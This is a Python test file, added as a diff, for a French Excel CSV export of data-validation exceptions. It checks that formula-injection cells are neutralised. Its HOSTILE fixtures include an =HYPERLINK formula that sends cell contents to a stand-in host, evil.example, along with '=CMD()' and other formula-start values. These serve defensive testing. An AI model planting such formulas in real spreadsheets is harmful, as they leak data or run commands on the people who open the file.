@@ -1,0 +1,165 @@
+"""exceptions.csv for data stewards: French Excel's dialect, review order, no formula ever runs.
+
+The register built in code below carries hostile values (formulas, leading tab or carriage
+return) in every text column; the end-to-end test uses tests/steward_extract.py.
+"""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from reports.exceptions_workbook import (
+    COLUMNS,
+    OFFENDING_COLUMN,
+    offending_values_from,
+    workbook_rows,
+    write_exceptions_workbook,
+)
+from reports.spreadsheet_safety import neutralise_cell, neutralise_frame
+from tests.steward_extract import HOSTILE_EMAIL, HOSTILE_PHONE, steward_run
+from validation.rules import rule
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"cliquer")', "+1", "-2", "@SUM(A1)", "\tx", "\rx"]
+HEADER = ["entité", "clé legacy", "issue", "code motif", "explication", "action suggérée", "détail",
+          "fusionné dans"]
+
+
+def _register(rows: list[tuple[str, str, str, str | None, str, str | None]]) -> pd.DataFrame:
+    frame = pd.DataFrame(rows, columns=["entity", "legacy_key", "outcome", "reason_code", "detail", "merged_into"])
+    frame["merged_into"] = frame["merged_into"].astype("string")
+    return frame
+
+
+REGISTER = _register([
+    ("habilitation", "10", "rejected", "ORPHAN_USER", HOSTILE[0], None),
+    ("user", "10", "excluded", "USER_DELETED", HOSTILE[1], None),
+    ("user", "9", "rejected", "INVALID_EMAIL", HOSTILE[2], None),
+    ("user", "2", "rejected", "INVALID_EMAIL", HOSTILE[3], None),
+    ("habilitation", "7", "merged", "DUPLICATE_ACCESS", HOSTILE[4], "=1+1"),
+    ("application", "=CMD()", "rejected", "APPLICATION_UNMAPPED", HOSTILE[5], None),
+    ("establishment", "73282932000075", "rejected", "INVALID_SIRET", "ok", None),
+    ("establishment", "35600000000048", "corrected", "SIREN_CORRECTED", "siren remplacé", None),
+    ("user", "3", "merged", "DUPLICATE_LOGIN", "fusionné dans id_utilisateur 2", "2"),
+])
+
+
+def _read(path: Path) -> list[list[str]]:
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        return list(csv.reader(handle, delimiter=";"))
+
+
+@pytest.fixture
+def workbook(tmp_path: Path) -> Path:
+    return write_exceptions_workbook(REGISTER, tmp_path)
+
+
+def test_french_spreadsheet_dialect(workbook: Path) -> None:
+    assert workbook.name == "exceptions.csv"
+    data = workbook.read_bytes()
+    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark
+    assert data.endswith(b"\r\n")
+    assert all(data[index - 1:index] == b"\r" for index in range(len(data)) if data[index:index + 1] == b"\n")
+    assert data[3:].split(b"\r\n")[0].decode("utf-8") == ";".join(HEADER)
+
+
+def test_one_row_per_register_row_with_the_rule_s_words(workbook: Path) -> None:
+    rows = _read(workbook)
+    assert rows[0] == HEADER == list(COLUMNS)
+    assert len(rows) - 1 == len(REGISTER)
+    by_key = {(row[0], row[1]): dict(zip(HEADER, row, strict=True)) for row in rows[1:]}
+    email = by_key[("utilisateur", "9")]
+    assert email["issue"] == "rejeté"
+    assert email["code motif"] == "INVALID_EMAIL"
+    assert email["explication"] == rule("user", "INVALID_EMAIL").explanation_fr
+    assert email["action suggérée"] == rule("user", "INVALID_EMAIL").action_fr
+    assert by_key[("utilisateur", "3")]["fusionné dans"] == "2"
+    assert by_key[("utilisateur", "9")]["fusionné dans"] == ""
+
+
+def test_formulas_are_neutralised(workbook: Path) -> None:
+    cells = [cell for row in _read(workbook)[1:] for cell in row]
+    for value in HOSTILE:
+        assert "'" + value in cells, value
+        assert value not in cells
+    assert "'=1+1" in cells
+    assert "'=CMD()" in cells
+    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+
+
+def test_review_order(workbook: Path) -> None:
+    order = [(row[0], row[1], row[3]) for row in _read(workbook)[1:]]
+    assert order == [
+        ("application", "'=CMD()", "APPLICATION_UNMAPPED"),  # a blocking rule first
+        ("utilisateur", "2", "INVALID_EMAIL"),  # then rejections, by entity, reason order, key (numeric)
+        ("utilisateur", "9", "INVALID_EMAIL"),
+        ("établissement", "73282932000075", "INVALID_SIRET"),
+        ("habilitation", "10", "ORPHAN_USER"),
+        ("utilisateur", "3", "DUPLICATE_LOGIN"),  # then merged, corrected, excluded
+        ("habilitation", "7", "DUPLICATE_ACCESS"),
+        ("établissement", "35600000000048", "SIREN_CORRECTED"),
+        ("utilisateur", "10", "USER_DELETED"),
+    ]
+
+
+def test_empty_register_gives_the_header_only(tmp_path: Path) -> None:
+    path = write_exceptions_workbook(REGISTER.iloc[0:0], tmp_path)
+    assert _read(path) == [HEADER]
+
+
+def test_offending_values_column(tmp_path: Path) -> None:
+    values = pd.DataFrame({"entity": ["user", "user"], "legacy_key": ["9", "2"],
+                           "reason_code": ["INVALID_EMAIL", "INVALID_EMAIL"], "value": ["pas-une-adresse", "-x"]})
+    rows = _read(write_exceptions_workbook(REGISTER, tmp_path, offending_values=values))
+    assert rows[0] == [*HEADER, OFFENDING_COLUMN]
+    by_key = {(row[0], row[1]): row[-1] for row in rows[1:]}
+    assert by_key[("utilisateur", "9")] == "pas-une-adresse"
+    assert by_key[("utilisateur", "2")] == "'-x"
+    assert by_key[("utilisateur", "10")] == ""
+
+
+def test_offending_values_need_their_columns() -> None:
+    with pytest.raises(ValueError, match="legacy_key"):
+        workbook_rows(REGISTER, pd.DataFrame({"entity": ["user"], "value": ["x"]}))
+
+
+def test_end_to_end_from_a_validation(tmp_path: Path) -> None:
+    run = steward_run()
+    values = offending_values_from(run.engine.results)
+    path = write_exceptions_workbook(run.register, tmp_path, offending_values=values)
+    rows = _read(path)
+    assert len(rows) - 1 == len(run.register)
+    by_key = {(row[0], row[1], row[3]): dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
+    assert by_key[("utilisateur", "3", "INVALID_EMAIL")][OFFENDING_COLUMN] == HOSTILE_EMAIL
+    assert by_key[("utilisateur", "4", "DUPLICATE_LOGIN")][OFFENDING_COLUMN] == "dup@example.fr"
+    assert by_key[("utilisateur", "8", "LOGIN_TAKEN")][OFFENDING_COLUMN] == "native.account@example.fr"
+    # a phone number is personal data beyond the login: never a « valeur en cause »
+    assert by_key[("utilisateur", "6", "PHONE_DROPPED")][OFFENDING_COLUMN] == ""
+    assert HOSTILE_PHONE not in path.read_text(encoding="utf-8-sig")
+    assert rows[1][3] == "APPLICATION_UNMAPPED"  # the blocking rule's rejection comes first
+
+
+@pytest.mark.parametrize("value", [*HOSTILE, "＝1+1", "＋1"])
+def test_neutralise_cell_quotes_formula_starts(value: str) -> None:
+    assert neutralise_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["a=b", "1", "", "'=déjà", "SIRET 123", 42, -2, 1.5, None])
+def test_neutralise_cell_leaves_the_rest(value: object) -> None:
+    assert neutralise_cell(value) == value
+
+
+def test_neutralise_frame_touches_text_only() -> None:
+    frame = pd.DataFrame({"text": ["=1", "ok", None], "number": [-2, 3, 4],
+                          "string": pd.array(["@x", pd.NA, "y"], dtype="string"), "=name": ["a", "b", "c"]})
+    safe = neutralise_frame(frame)
+    assert safe["text"].tolist()[:2] == ["'=1", "ok"]
+    assert safe["text"].isna().tolist()[2]
+    assert safe["number"].tolist() == [-2, 3, 4]
+    assert safe["string"].tolist()[0] == "'@x"
+    assert pd.isna(safe["string"].tolist()[1])
+    assert list(safe.columns) == ["text", "number", "string", "'=name"]
+    assert frame.loc[0, "text"] == "=1"  # the input is not modified
